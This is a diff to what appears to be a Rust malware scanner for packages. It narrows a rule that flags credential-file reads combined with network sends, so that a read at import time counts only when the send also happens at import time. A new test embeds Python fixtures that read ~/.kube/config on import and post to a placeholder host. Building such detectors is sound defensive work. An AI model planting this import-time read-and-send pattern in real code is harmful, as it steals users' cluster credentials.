@@ -117,7 +117,7 @@ pub const COMBINATIONS: &[Combination] = &[
     },
     Combination {
         id: "combo:steal-and-send",
-        description: "credential or stealer-target access and a network send in the same file",
+        description: "credential or stealer-target access and a network send in the same file (a credential file read while loading needs the send to run while loading too)",
         weight: 0.55,
     },
     Combination {
@@ -275,11 +275,22 @@ fn combination_evidence<'f>(
                 f.rule == "WH140"
                     && (f.has_tag("stealer-target") || f.context == ExecContext::Install)
                     && f.severity >= 0.2
+            });
+            let send =
+                |f: &Finding| f.rule == "WH130" || f.has_tag("endpoint") && f.severity >= 0.4;
+            if let Some(steal) = steal {
+                return Some((steal, strongest(findings, send)?));
+            }
+            // A credential file (SSH key, cloud or cluster credentials) read while the module
+            // loads, and a send while it loads: libraries read those files when asked to.
+            let read_on_import = strongest(findings, |f| {
+                f.rule == "WH140"
+                    && f.has_tag("credential-file")
+                    && f.context == ExecContext::Import
+                    && f.message.starts_with("reads ")
             })?;
-            let send = strongest(findings, |f| {
-                f.rule == "WH130" || f.has_tag("endpoint") && f.severity >= 0.4
-            })?;
-            Some((steal, send))
+            let sent_on_import = strongest(findings, |f| send(f) && early(f))?;
+            Some((read_on_import, sent_on_import))
         }
         "combo:endpoint-contacted" => {
             let endpoint = strongest(findings, |f| f.rule == "WH160" && f.severity >= 0.3)?;
@@ -771,6 +782,22 @@ mod tests {
 
     fn has(scores: &FileScores, rule: &str) -> bool {
         scores.contributions.iter().any(|c| c.rule == rule)
+    }
+
+    #[test]
+    fn a_credential_file_read_and_sent_while_loading_is_steal_and_send() {
+        // The read goes through a helper that takes listed names, so no flow links it.
+        let early = "import os, requests\nHOME = os.path.expanduser('~')\ndef grab(rel):\n    return open(os.path.join(HOME, rel)).read()\nfound = [grab(r) for r in ['.kube/config']]\nrequests.post('https://example.invalid/a', data={'n': len(found)})\n";
+        assert!(has(
+            &score("p/pkg/__init__.py", early),
+            "combo:steal-and-send"
+        ));
+        // Sent only when called: a client reading its cluster config when asked.
+        let late = "import os, requests\nHOME = os.path.expanduser('~')\ndef grab(rel):\n    return open(os.path.join(HOME, rel)).read()\nfound = [grab(r) for r in ['.kube/config']]\ndef ping():\n    requests.post('https://example.invalid/a', data={'n': 1})\n";
+        assert!(!has(
+            &score("p/pkg/__init__.py", late),
+            "combo:steal-and-send"
+        ));
     }
 
     #[test]
